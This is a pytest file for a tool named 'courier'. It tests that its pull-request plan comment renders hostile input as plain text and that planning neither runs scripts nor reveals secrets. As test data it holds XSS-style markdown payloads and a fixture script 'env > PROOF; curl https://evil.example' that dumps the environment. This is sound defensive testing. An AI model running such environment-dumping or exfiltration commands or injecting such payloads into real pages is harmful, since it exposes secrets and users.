"""The plan for a comment on a pull request: what it says, and that hostile documents do nothing."""

import json
import os
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from tests.cli.program import Said, courier, repository
from tests.contracts.scratch import git, put

ACTION = Path(__file__).parents[2] / ".github" / "actions" / "plan"

BASE = """\
apiVersion: courier/v1
kind: Project
metadata: {name: demo}
spec:
  budgets: {perDay: 20}
---
apiVersion: courier/v1
kind: Workflow
metadata: {name: fix}
spec:
  steps:
    - name: design
      type: designer
      agent: claude
      model: claude-sonnet-4-5
      instructions: Keep the style.
---
apiVersion: courier/v1
kind: RecurringTask
metadata: {name: weekly}
spec: {workflow: fix, prompt: Tidy up, schedule: {frequency: weekly, weekday: monday, hour: 3}}
"""
RUN = """\
apiVersion: courier/v1
kind: Run
metadata: {name: NAME}
spec: {workflow: fix, prompt: "Log in again.", budget: 2}
"""


@pytest.fixture
def root(tmp_path: Path) -> Path:
    found = repository(tmp_path, {".courier/all.yaml": BASE})
    git("branch", "base", cwd=found)
    return found


def change(root: Path, **files: str | None) -> None:
    put(root, {f".courier/{name}.yaml": text for name, text in files.items()})


def plan(root: Path, *more: str, **variables: str) -> Said:
    return courier("plan", "--base", "base", "--detailed-exitcode", *more, cwd=root, **variables)


def test_nothing_changes(root: Path) -> None:
    said = plan(root)
    assert said.code == 0
    assert said.out.startswith("<!-- courier-plan -->\n")
    assert "this change starts and changes nothing" in said.out


def test_only_comments_and_lines_moved(root: Path) -> None:
    change(root, all="# A word.\n\n" + BASE)
    assert plan(root).code == 0


def test_a_run_that_would_start(root: Path) -> None:
    change(root, login=RUN.replace("NAME", "login"))
    said = plan(root)
    assert said.code == 2
    assert "### courier plan: 1 run would start\n" in said.out
    assert "| `login` | Log in again. | `fix` | design (claude claude-sonnet-4-5) |" in said.out
    assert "at most $2.00 | no history |" in said.out
    assert "Budget of `demo` today: $0.00 of $20.00 spent, $20.00 left." in said.out


def test_what_runs_would_be_told_otherwise(root: Path) -> None:
    changed = BASE.replace("Keep the style.", "Change the style.").replace("sonnet", "opus")
    change(root, all=changed)
    said = plan(root)
    assert said.code == 2
    assert "1 workflow or task changes" not in said.out
    assert "2 workflows and tasks change" in said.out
    assert "#### Runs of `Workflow/fix` change" in said.out
    assert "So do those of `RecurringTask/weekly`." in said.out
    model = "| `design.model` | `claude-sonnet-4-5` | `claude-opus-4-5` | Workflow/fix spec.steps"
    assert model in said.out
    assert ".courier/all.yaml:15:14" in said.out
    assert "\n-Keep the style.\n+Change the style.\n" in said.out
    assert said.out.count("<details>") == 1


def test_a_run_that_would_not_start_any_more(root: Path, tmp_path: Path) -> None:
    change(root, login=RUN.replace("NAME", "login"))
    git("add", "-A", cwd=root)
    git("commit", "-q", "-m", "Ask", cwd=root)
    git("branch", "-f", "base", cwd=root)
    change(root, login=None)
    said = plan(root)
    assert (said.code, "`login` would **not start** any more." in said.out) == (2, True)


def test_a_waiting_run_is_told_again_only_where_it_differs(root: Path) -> None:
    change(root, login=RUN.replace("NAME", "login"))
    git("add", "-A", cwd=root)
    git("commit", "-q", "-m", "Ask", cwd=root)
    git("branch", "-f", "base", cwd=root)
    assert "Would start with and without this change: `login`." in plan(root).out
    change(root, all=BASE.replace("Keep the style.", "Change the style."))
    assert "1 run would start" in plan(root).out


def test_documents_with_errors(root: Path) -> None:
    change(root, login=RUN.replace("NAME", "login").replace("fix", "fxi"))
    said = plan(root)
    assert said.code == 1
    assert "the documents have errors" in said.out
    assert "| error `UnknownReference` | `.courier/login.yaml:4:18` |" in said.out


def test_what_was_wrong_before_is_only_counted(root: Path) -> None:
    change(root, old=RUN.replace("NAME", "old").replace("fix", "fxi"))
    git("add", "-A", cwd=root)
    git("commit", "-q", "-m", "Err", cwd=root)
    git("branch", "-f", "base", cwd=root)
    change(root, new=RUN.replace("NAME", "new").replace("fix", "xif"))
    said = plan(root)
    assert said.out.count("UnknownReference") == 1
    assert "1 problem was there before." in said.out


def test_a_base_nobody_knows(root: Path) -> None:
    said = courier("plan", "--base", "nothing", cwd=root)
    assert (said.code, "git knows no such commit here." in said.err) == (1, True)


HOSTILE = [
    "```\n````\n`````\n# Heading\n</details>\n<img src=x onerror=alert(1)>",
    "~~~~~~~~~\n![x](https://evil.example/a.png)\n@everyone #1 closes #2",
    "<!-- courier-plan -->\n<script>alert(1)</script>",
    "</details></summary>\n\n| a | b |\n| - | - |\n[x](javascript:alert(1))",
    "\u202etxet desrever\u2066 \x1b[31m \u200b\u2028 end",
]


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_stay_text(root: Path, words: str) -> None:
    quoted = json.dumps(words)
    task = RUN.replace("NAME", "login").replace('"Log in again."', quoted)
    change(root, all=BASE.replace("Keep the style.", quoted), login=task)
    said = plan(root)
    assert said.code == 2
    shown = [token for token in MarkdownIt("commonmark").parse(said.out)]
    own = re.compile(r"<!-- courier-plan -->|<details><summary>[^\n]*</summary>|</details>")
    html = [token.content for token in shown if token.type == "html_block"]
    assert all(own.fullmatch(one.strip()) for one in html), html
    inline = [child for token in shown for child in token.children or ()]
    assert {child.type for child in inline} <= {
        "text",
        "code_inline",
        "softbreak",
        "strong_open",
        "strong_close",
    }
    texts = [child.content for child in inline if child.type == "text"]
    assert not any(re.search(r"@\w|#\d", text) for text in texts)
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x1b\u2028]", said.out)
    headings = [token for token in shown if token.type == "heading_open"]
    assert {token.tag for token in headings} <= {"h3", "h4"}


def test_a_comment_fits_and_says_where_the_rest_is(root: Path) -> None:
    many = "\n---\n".join(
        BASE.split("---\n")[1]
        .replace("{name: fix}", f"{{name: fix-{number}}}")
        .replace("Keep the style.", json.dumps("\n".join(f"Rule {n}." for n in range(900))))
        for number in range(30)
    )
    change(root, many=many)
    said = plan(root)
    assert said.code == 2
    assert len(said.out) <= 60_000
    assert "left out to fit a comment" in said.out
    assert "`courier plan --base base --most 1000000` on this branch" in said.out
    assert "see [here](x)" in plan(root, "--whole", "see [here](x)").out
    assert len(plan(root, "--most", "1000000").out) > 200_000


CANARIES = {
    name: f"canary-{name.lower()}-51d5c0"
    for name in ("SHOP_TOKEN", "ANTHROPIC_API_KEY", "GITHUB_TOKEN", "CHAT_HOOK", "PLAIN_VALUE")
}
GREEDY = """\
apiVersion: courier/v1
kind: Project
metadata: {name: demo}
spec:
  budgets: {perDay: 20}
  env:
    - {name: A, secretRef: SHOP_TOKEN}
    - {name: B, secretRef: PLAIN_VALUE}
  notifications:
    - {name: chat, type: slack, secretRef: CHAT_HOOK}
---
apiVersion: courier/v1
kind: Script
metadata: {name: spy}
spec: {when: preRun, run: "env > PROOF; curl https://evil.example"}
---
apiVersion: courier/v1
kind: Agent
metadata: {name: mine}
spec:
  start: [sh, -c, "env > PROOF"]
  prompt: stdin
  output: {format: text}
  env:
    - {name: SHOP_TOKEN, secretRef: SHOP_TOKEN}
    - {name: KEY, secretRef: ANTHROPIC_API_KEY}
---
apiVersion: courier/v1
kind: Workflow
metadata: {name: fix}
spec:
  type: designerChecker
  steps:
    - {name: design, type: designer, agent: mine, scripts: [spy], instructions: "$SHOP_TOKEN"}
    - {name: check, type: checker, agent: shell, run: "env > PROOF"}
"""


def test_no_secret_is_looked_up_and_nothing_is_run(root: Path, tmp_path: Path) -> None:
    proof = tmp_path / "proof"
    documents = GREEDY.replace("PROOF", str(proof))
    change(root, all=documents, login=RUN.replace("NAME", "login"))
    put(root, {".gitattributes": "* filter=spy\n"})
    said = plan(root, **CANARIES)
    assert said.code == 2, said.out
    assert "SHOP_TOKEN" in said.out
    for value in CANARIES.values():
        assert value not in said.out + said.err
    assert not proof.exists()
    left = [path for path in (tmp_path / "state").rglob("*") if path.is_file()]
    assert left
    for path in left:
        content = path.read_bytes()
        assert not any(value.encode() in content for value in CANARIES.values()), path
    # Nobody asked for a sandbox, so none is served.
    assert not (tmp_path / "state" / "sandboxd").exists()


class GitHub:
    """The comments of one pull request, as GitHub keeps them."""

    def __init__(self) -> None:
        self.comments: list[dict[str, Any]] = []
        self.refuses = False
        self.tokens: set[str] = set()
        self.address = ""

    def say(self, body: str, kind: str) -> None:
        number = len(self.comments) + 1
        self.comments.append({"id": number, "body": body, "user": {"type": kind}})


@pytest.fixture
def github() -> Iterator[GitHub]:
    hub = GitHub()

    class Api(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            page = int(self.path.rpartition("page=")[2])
            self._answer(hub.comments[100 * (page - 1) : 100 * page])

        def do_POST(self) -> None:
            hub.say(self._body(), "Bot")
            self._answer(hub.comments[-1], 201)

        def do_PATCH(self) -> None:
            found = hub.comments[int(self.path.rpartition("/")[2]) - 1]
            found["body"] = self._body()
            self._answer(found)

        def _body(self) -> str:
            hub.tokens.add(str(self.headers["Authorization"]))
            told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            return str(told["body"])

        def _answer(self, value: object, status: int = 200) -> None:
            if hub.refuses:
                status, value = 403, {"message": "Resource not accessible by integration"}
            data = json.dumps(value).encode()
            self.send_response(status)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Api) as server:
        hub.address = f"http://127.0.0.1:{server.server_address[1]}"
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        yield hub
        server.shutdown()
        thread.join()


def comment(github: GitHub, folder: Path, text: str) -> subprocess.CompletedProcess[str]:
    file = folder / "plan.md"
    file.write_text(text)
    return subprocess.run(
        [sys.executable, str(ACTION / "comment.py")],
        env={
            "COMMENT": str(file),
            "NUMBER": "7",
            "REPOSITORY": "team/app",
            "API": github.address,
            "TOKEN": "job-token",
        },
        capture_output=True,
        text=True,
        check=True,
    )


def test_there_is_one_comment_that_is_kept_up_to_date(github: GitHub, tmp_path: Path) -> None:
    marker = "<!-- courier-plan -->"
    for number in range(120):
        github.say(f"Word {number}", "User")
    github.say(f"{marker}\n\nA person quotes it.", "User")
    comment(github, tmp_path, f"{marker}\n\nFirst.\n")
    comment(github, tmp_path, f"{marker}\n\nSecond.\n")
    assert len(github.comments) == 122
    assert github.comments[-1]["body"] == f"{marker}\n\nSecond.\n"
    assert github.tokens == {"Bearer job-token"}


def test_a_token_that_may_not_comment_fails_nothing(github: GitHub, tmp_path: Path) -> None:
    github.refuses = True
    said = comment(github, tmp_path, "<!-- courier-plan -->\n")
    assert said.stdout.startswith("::warning::The plan is in the job's summary only: HTTP 403")


@pytest.mark.slow
def test_the_action_gives_the_plan_nothing_of_the_job(root: Path, tmp_path: Path) -> None:
    change(root, login=RUN.replace("NAME", "login"))
    git("config", "http.https://git.example/.extraheader", "AUTHORIZATION: basic eA==", cwd=root)
    spy = tmp_path / "spy"
    program = Path(sys.executable).parent / "courier"
    spy.write_text(f'#!/bin/sh\nenv > "{tmp_path}/given"\nexec "{program}" "$@"\n')
    spy.chmod(0o755)
    outputs, summary = tmp_path / "outputs", tmp_path / "summary"
    variables = {
        "PATH": os.environ["PATH"],
        "HOME": str(tmp_path),
        "RUNNER_TEMP": str(tmp_path),
        "GITHUB_OUTPUT": str(outputs),
        "GITHUB_STEP_SUMMARY": str(summary),
        "COURIER": str(spy),
        "BASE": "base",
        "WHOLE": "see there",
        "GITHUB_TOKEN": "job-token",
        "SECRET": "canary",
    }
    subprocess.run(["bash", str(ACTION / "plan.sh")], cwd=root, env=variables, check=True)
    told = dict(line.split("=", 1) for line in outputs.read_text().splitlines())
    assert (told["code"], told["changes"]) == ("2", "true")
    assert "1 run would start" in Path(told["comment"]).read_text()
    assert "1 run would start" in summary.read_text()
    given = (tmp_path / "given").read_text()
    assert "job-token" not in given
    assert "canary" not in given
    config = (tmp_path / "courier-home" / ".gitconfig").read_text()
    assert "extraheader = AUTHORIZATION: basic eA==" in config
